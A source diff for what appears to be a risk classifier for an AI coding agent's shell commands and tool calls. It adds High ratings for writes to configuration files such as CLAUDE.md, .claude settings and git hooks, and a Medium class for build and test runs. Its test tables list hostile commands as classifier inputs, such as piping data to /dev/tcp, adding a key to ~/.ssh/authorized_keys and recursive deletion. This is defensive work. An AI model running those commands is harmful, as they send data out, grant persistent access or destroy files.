@@ -63,7 +63,8 @@ impl fmt::Display for Risk {
 /// | `tool_decision` | from `{"tool","decision","input"}`: an allowed read-only tool is Low, any |
 /// |                 | other tool Medium (allowed or denied); `Bash` is [`assess_command`] of    |
 /// |                 | `input.command`, one level higher when denied. Any tool whose input names |
-/// |                 | a sensitive location is at least High.                                    |
+/// |                 | a sensitive location is at least High, and so is a file tool writing a    |
+/// |                 | configuration-as-code file (`.claude/…`, `CLAUDE.md`, `.git/hooks/…`).    |
 ///
 /// Any event not listed is Medium: an unknown event fails towards attention.
 ///
@@ -177,7 +178,15 @@ fn tool_decision(details: &Value) -> Risk {
         }
         _ => false,
     };
-    if sensitive {
+    // Changing configuration-as-code (the policy's `config_files`) is a deferred command.
+    let config_write = crate::policy::WRITE_TOOLS.contains(&tool)
+        && ["file_path", "notebook_path"].iter().any(|k| {
+            input
+                .get(*k)
+                .and_then(Value::as_str)
+                .is_some_and(crate::policy::config_files::names_config_file)
+        });
+    if sensitive || config_write {
         risk = risk.max(Risk::High);
     }
     risk
@@ -294,7 +303,7 @@ fn is_benign_device(path: &str) -> bool {
 }
 
 fn is_system_write_target(path: &str) -> bool {
-    if is_sensitive_path(path) {
+    if is_sensitive_path(path) || crate::policy::config_files::names_config_file(path) {
         return true;
     }
     path.strip_prefix('/')
@@ -356,11 +365,16 @@ fn is_catastrophic_target(target: &str) -> bool {
 ///   `socat`, `telnet`, `curl`, `wget`, remote `rsync`; `publish` of a package; system
 ///   administration (`systemctl start`, `crontab -e`, `mount`, `iptables`, `passwd`, …); any
 ///   write (redirect or write command) to a system or secret location (`/etc`, `/dev/sda`,
-///   `/usr`, `~/.ssh`, `.env`, …).
+///   `/usr`, `~/.ssh`, `.env`, …) or to a configuration-as-code file (`.claude/…`, `CLAUDE.md`,
+///   `.git/hooks/…`, `.envrc`, … — the policy's `config_files`), and `git config` changes.
 /// - Medium: other writes (`rm`, `mv`, `cp`, `mkdir`, `tee`, `sed -i`, redirects to files,
-///   mutating `git` subcommands, `npm install`, `pip install`, …), interpreters (`python`,
-///   `node`, `sh script.sh`, …), `find -delete`/`-exec` (and the command it runs), `kill`,
-///   `docker`.
+///   mutating `git` subcommands, `npm install`, `pip install`, …), running project code (the
+///   policy's `runs_code` class): interpreters (`python`, `node`, `sh script.sh`, …), programs
+///   run by path (`./probe`, `bin/tool`), build tools and test runners (`make`, `just`,
+///   `pytest`, …) and package-manager subcommands that build or run (`cargo test|build|run`,
+///   `npm test|run|start`, `go test|run|generate`, …); `find -delete`/`-exec` (and the command
+///   it runs), `kill`, `docker`. Unknown command words stay Low here (prose must not look
+///   risky), although the policy treats unknown programs as `runs_code`.
 /// - Low: read-only commands (`ls`, `cat`, `grep`, `rg`, plain `find`, `git status/log/diff`,
 ///   `echo`, `pwd`, `head`, `tail`, `wc`, …) and any command word not listed above.
 ///
@@ -754,12 +768,67 @@ fn assess_words(words: &[String], depth: u8) -> Verdict {
             }
             _ => {
                 v.merge(classify(name, &words[i + 1..], depth));
+                if runs_by_path(word) {
+                    v.risk = v.risk.max(Risk::Medium);
+                }
                 return v;
             }
         }
     }
     v
 }
+
+/// A program named by a path outside the system's program directories: project code.
+fn runs_by_path(word: &str) -> bool {
+    const SYSTEM_DIRS: &[&str] = &[
+        "/bin/",
+        "/usr/bin/",
+        "/sbin/",
+        "/usr/sbin/",
+        "/usr/local/bin/",
+        "/usr/local/sbin/",
+        "/opt/homebrew/bin/",
+    ];
+    word.contains('/')
+        && !word.ends_with('/')
+        && !SYSTEM_DIRS
+            .iter()
+            .any(|d| word.strip_prefix(d).is_some_and(|rest| !rest.contains('/')))
+}
+
+/// Build tools and test runners: they run the project's code.
+const CODE_RUNNERS: &[&str] = &[
+    "make",
+    "gmake",
+    "cmake",
+    "ninja",
+    "meson",
+    "just",
+    "pytest",
+    "py.test",
+    "tox",
+    "nox",
+    "mvn",
+    "mvnw",
+    "gradle",
+    "gradlew",
+    "ant",
+    "sbt",
+    "rake",
+    "bazel",
+    "jest",
+    "vitest",
+    "mocha",
+    "phpunit",
+    "rspec",
+    "pre-commit",
+];
+
+/// Subcommands of package managers (`cargo`, `npm`, `go`, …) that build or run project code.
+const RUNS_CODE_SUBCOMMANDS: &[&str] = &[
+    "build", "b", "check", "c", "test", "t", "run", "r", "bench", "clippy", "doc", "fix", "start",
+    "exec", "x", "generate", "nextest", "rustc",
+];
 
 const INTERPRETERS: &[&str] = &[
     "python",
@@ -930,6 +999,7 @@ fn classify(name: &str, args: &[String], depth: u8) -> Verdict {
                 }
             }
         }
+        n if CODE_RUNNERS.contains(&n) => Verdict::of(Risk::Medium),
         n if PACKAGE_MANAGERS.contains(&n) => Verdict::of(package_risk(n, args)),
         n if ADMIN_COMMANDS.contains(&n) => Verdict::of(admin_risk(n, args)),
         _ => Verdict::of(Risk::Low),
@@ -1108,8 +1178,18 @@ fn git_risk(args: &[String]) -> Risk {
             let reading = rest
                 .iter()
                 .any(|a| matches!(*a, "--get" | "--get-all" | "--get-regexp" | "--list" | "-l"));
+            let writing = operands(&args[i + 1..]).count() >= 2
+                || rest.iter().any(|a| {
+                    matches!(
+                        *a,
+                        "--unset" | "--unset-all" | "--add" | "--replace-all" | "--edit" | "-e"
+                    )
+                });
             if reading {
                 Risk::Low
+            } else if writing {
+                // `.git/config` decides what git runs (pagers, hooks path, fsmonitor, aliases).
+                Risk::High
             } else {
                 Risk::Medium
             }
@@ -1157,7 +1237,12 @@ fn package_risk(name: &str, args: &[String]) -> Risk {
     {
         return Risk::Medium;
     }
-    if (name == "yarn" && subs.is_empty()) || subs.iter().any(|s| INSTALL_SUBCOMMANDS.contains(s)) {
+    let runs_code = matches!(name, "cargo" | "npm" | "pnpm" | "yarn" | "bun" | "go")
+        && subs.iter().any(|s| RUNS_CODE_SUBCOMMANDS.contains(s));
+    if (name == "yarn" && subs.is_empty())
+        || runs_code
+        || subs.iter().any(|s| INSTALL_SUBCOMMANDS.contains(s))
+    {
         Risk::Medium
     } else {
         Risk::Low
@@ -1312,6 +1397,35 @@ mod tests {
             td("Edit", "deny", json!({"file_path": "/p/src/x.rs"})),
             Risk::Medium
         );
+        // Writing configuration-as-code is a deferred command: High; reading it is not.
+        for p in [
+            "/p/.claude/settings.json",
+            "CLAUDE.md",
+            "/p/.git/hooks/pre-commit",
+            ".envrc",
+        ] {
+            assert_eq!(
+                td("Write", "allow", json!({"file_path": p})),
+                Risk::High,
+                "{p}"
+            );
+        }
+        assert_eq!(
+            td(
+                "NotebookEdit",
+                "allow",
+                json!({"notebook_path": "/p/.vscode/x.ipynb"})
+            ),
+            Risk::High
+        );
+        assert_eq!(
+            td(
+                "Read",
+                "allow",
+                json!({"file_path": "/p/.claude/settings.json"})
+            ),
+            Risk::Low
+        );
         assert_eq!(
             td("WebFetch", "allow", json!({"url": "https://example.com"})),
             Risk::Medium
@@ -1382,7 +1496,9 @@ mod tests {
             ("head -n 20 src/lib.rs | wc -l", Low),
             ("tail -f log.txt", Low),
             ("ls 2>/dev/null", Low),
-            ("cargo test 2>&1 | tail -20", Low),
+            ("cargo fmt --check", Low),
+            ("npm ls", Low),
+            ("git config --get user.name", Low),
             ("env", Low),
             ("command -v rm", Low),
             ("systemctl status nginx", Low),
@@ -1425,6 +1541,26 @@ mod tests {
             ("chmod +x run.sh", Medium),
             ("dd if=/dev/zero of=disk.img bs=1M count=10", Medium),
             ("kill 1234", Medium),
+            // Running project code (the policy's `runs_code`).
+            ("cargo test 2>&1 | tail -20", Medium),
+            ("cargo build --release", Medium),
+            ("cargo +nightly check", Medium),
+            ("npm test", Medium),
+            ("npm run build", Medium),
+            ("pnpm start", Medium),
+            ("go test ./...", Medium),
+            ("go generate ./...", Medium),
+            ("make", Medium),
+            ("make -j4 test", Medium),
+            ("just build", Medium),
+            ("pytest -q", Medium),
+            ("./probe", Medium),
+            ("scripts/x.sh --fast", Medium),
+            ("bin/tool", Medium),
+            ("../../elsewhere/tool", Medium),
+            ("FOO=1 ./gradlew build", Medium),
+            ("/usr/bin/ls -l", Low),
+            ("/usr/local/bin/rg x", Low),
             // High.
             ("sudo ls", High),
             ("su - root", High),
@@ -1448,6 +1584,16 @@ mod tests {
             ("echo data > /dev/tcp/10.0.0.1/4444", High),
             ("cp evil ~/.ssh/authorized_keys", High),
             ("echo TOKEN=x >> .env", High),
+            // Configuration-as-code.
+            ("echo '{}' > .claude/settings.json", High),
+            ("echo x >> CLAUDE.md", High),
+            ("cp hook .git/hooks/pre-commit", High),
+            ("tee .envrc < x", High),
+            ("sed -i 's/a/b/' .github/workflows/ci.yml", High),
+            ("mv x /p/.vscode/tasks.json", High),
+            ("git config core.hooksPath .husky", High),
+            ("git config --global alias.x '!sh'", High),
+            ("cat CLAUDE.md", Low),
             ("find . -exec rm -rf {} \\;", High),
             ("crontab -e", High),
             ("/usr/bin/sudo -u root id", High),
